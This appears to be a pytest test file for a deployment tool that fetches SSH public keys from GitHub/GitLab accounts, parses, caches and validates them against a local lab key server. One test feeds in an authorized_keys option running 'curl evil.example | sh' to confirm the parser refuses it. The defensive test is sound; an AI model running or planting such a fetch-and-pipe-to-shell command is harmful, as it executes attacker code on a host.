"""Keys from accounts: `github:NAME` / `gitlab:NAME` in a team's keys, read from the forge's NAME.keys endpoint (its
format: comments, blank lines, several keys, an empty answer), cached beside the inventory with the time fetched,
used from the cache when the forge is down, fetched again by refresh; a failure is one line naming team and entry.
The forge here is the lab's keys server (lab/keys_server.py): HTTPS on 127.0.0.1 with a CA of its own."""
import json
import os

import pytest

from deploy.inventory import load_inventory
from deploy.inventory.forges import ForgeAccount, keys_url, parse_keys_answer
from deploy.provision.account_keys import AccountKeysError, with_account_keys
from inventories.keys import ecdsa_key, ed25519_key, ed25519_private_key, rsa_key
from inventories.text import problems_of, write
from lab.keys_server import KeysServer

ALICE = ForgeAccount("github", "alice")


def test_the_endpoint_answer_skips_blank_lines_and_comments_and_names_the_account_where_a_key_has_no_comment():
    ed, ec = " ".join(ed25519_key().split()[:2]), ecdsa_key(comment="alice@work")
    keys, why = parse_keys_answer(f"\n# alice's keys\n{ed}\n\n  {ec}  \n", ALICE)
    assert (keys, why) == ([f"{ed} github:alice", ec], "")


def test_an_empty_answer_or_a_bad_key_in_it_is_refused_with_why():
    assert parse_keys_answer("", ALICE) == (
        None, "the account has no public SSH key (its owner adds one in the forge's settings)")
    assert parse_keys_answer("\n# none\n", ALICE)[0] is None
    short = rsa_key(1024)
    assert parse_keys_answer(f"{ed25519_key()}\n{short}\n", ALICE) == (
        None, "its key on line 2: RSA keys shorter than 2048 bits are refused; make an ed25519 key "
              "(ssh-keygen -t ed25519)")


def test_a_forge_cannot_slip_options_into_authorized_keys():
    key = ed25519_key()
    assert parse_keys_answer(f'command="curl evil.example | sh" {key}\n', ALICE)[1].startswith(
        "its key on line 1: unknown key type 'command=\"curl'")
    assert parse_keys_answer(f'{key}\n{ed25519_private_key()}', ALICE)[1].startswith(   # made now, never committed
        "its key on line 2: this is a private key")


def test_the_keys_url_is_the_base_then_the_user():
    assert keys_url("https://github.com", "alice") == "https://github.com/alice.keys"
    assert keys_url("https://git.uni.example/gitlab/", "bob") == "https://git.uni.example/gitlab/bob.keys"


def test_account_entries_and_forge_settings_are_checked_with_the_inventory(tmp_path):
    path = write(tmp_path, """
        ONE_SERVER
        forges:
          github: https://github.example/?x=1
          gitlab: http://git.uni.example
        teams:
          - {name: team1, keys: ["github:al/ice", "gitlab:"]}
     """)
    assert problems_of(path) == [
        f"{path}:5: forges.github: 'https://github.example/?x=1': give the forge's base URL only, "
        "e.g. https://gitlab.example.edu",
        f"{path}:6: forges.gitlab: 'http://git.uni.example' is not an https:// URL (keys fetched over plain HTTP "
        "could be changed on the way)",
        f"{path}:8: teams[0].keys[0]: github:'al/ice': not a github user name (letters, digits, '-', '_', '.'), "
        "e.g. github:alice",
        f"{path}:8: teams[0].keys[1]: gitlab:'': not a gitlab user name (letters, digits, '-', '_', '.'), "
        "e.g. gitlab:alice"]


@pytest.fixture
def forge(tmp_path):
    with KeysServer(tmp_path / "forge", {"alice": ed25519_key("alice@laptop") + "\n" + ed25519_key() + "\n",
                                         "bob": ed25519_key("bob@home") + "\n", "nokey": ""}) as server:
        yield server


def class_of(tmp_path, forge, *entries, bundle=", ca_bundle: forge/ca.crt"):
    inline = ed25519_key("carol@laptop")
    path = write(tmp_path, f"""
        ONE_SERVER
        forges: {{github: "{forge.base_url}", gitlab: "{forge.base_url}/"{bundle}}}
        teams:
          - {{name: team1, keys: ["{inline}", github:alice, gitlab:Bob]}}
          - name: team2
            keys: [{", ".join(entries) or "github:alice"}]
     """)
    return load_inventory(path), inline


def test_keys_are_fetched_once_cached_with_their_time_then_used_from_the_cache_with_the_forge_down(tmp_path, forge):
    inventory, inline = class_of(tmp_path, forge)
    said = []
    teams = with_account_keys(inventory, say=said.append).teams
    alice = [line.strip() for line in forge.accounts["alice"].splitlines()]
    assert teams[0].keys == (inline, *alice, forge.accounts["bob"].strip())
    assert teams[1].keys == tuple(alice)
    assert sorted(forge.requests) == ["/Bob.keys", "/alice.keys"]     # alice once for both teams
    cached = json.loads((tmp_path / ".hacknode" / "forge-keys" / "github" / "alice.json").read_text())
    assert cached["url"] == f"{forge.base_url}/alice.keys" and cached["keys"] == alice and cached["fetched"]
    assert said == ["keys from accounts: 2 fetched, 0 from the cache"]
    forge.stop()
    said.clear()
    assert with_account_keys(inventory, say=said.append).teams == teams
    assert said[0].startswith("keys from accounts: 0 fetched, 2 from the cache "
                              f"(the oldest fetched {cached['fetched']}")


def test_refresh_fetches_again_and_a_key_removed_on_the_forge_goes(tmp_path, forge):
    inventory, _ = class_of(tmp_path, forge)
    with_account_keys(inventory, say=lambda line: None)
    forge.accounts["alice"] = ed25519_key("alice@new") + "\n"
    assert with_account_keys(inventory, say=lambda line: None).teams[1].keys != (forge.accounts["alice"].strip(),)
    assert with_account_keys(inventory, refresh=True, say=lambda line: None).teams[1].keys == (
        forge.accounts["alice"].strip(),)
    assert forge.requests.count("/alice.keys") == 2


def test_a_missing_account_or_key_or_an_unreachable_forge_is_one_line_naming_team_and_entry(tmp_path, forge):
    inventory, _ = class_of(tmp_path, forge, "github:ghost", "gitlab:nokey")
    with pytest.raises(AccountKeysError) as caught:
        with_account_keys(inventory, say=print)
    path = inventory.path
    assert str(caught.value).splitlines() == [
        f"team2: github:ghost: no such account ({forge.base_url}/ghost.keys answered 404) "
        f"({path}:8: teams[1].keys[0])",
        "team2: gitlab:nokey: the account has no public SSH key (its owner adds one in the forge's settings) "
        f"({path}:8: teams[1].keys[1]); nothing was sent to any server"]
    with_account_keys(class_of(tmp_path, forge)[0], say=print)     # alice and bob cached; carl is not
    forge.stop()
    inventory, _ = class_of(tmp_path, forge, "github:alice", "github:carl")
    with pytest.raises(AccountKeysError) as caught:
        with_account_keys(inventory, say=print)
    assert str(caught.value) == (f"team2: github:carl: cannot reach {forge.base_url}/carl.keys: [Errno 111] "
                                 f"Connection refused ({path}:8: teams[1].keys[1]); nothing was sent to any server")
    assert not os.path.exists(tmp_path / ".hacknode" / "forge-keys" / "github" / "carl.json")


def test_a_forge_whose_certificate_is_not_trusted_or_a_bad_ca_bundle_is_refused_in_one_line(tmp_path, forge):
    with pytest.raises(AccountKeysError) as caught:
        with_account_keys(class_of(tmp_path, forge, bundle="")[0], say=print)
    assert "CERTIFICATE_VERIFY_FAILED" in str(caught.value).splitlines()[0]
    inventory, _ = class_of(tmp_path, forge)
    (tmp_path / "forge" / "ca.crt").write_text(open(forge.ca_file).read().replace("MII", "MIX", 1))
    with pytest.raises(AccountKeysError) as caught:
        with_account_keys(inventory, say=print)
    assert "forges.ca_bundle" in str(caught.value) and "\n" not in str(caught.value)
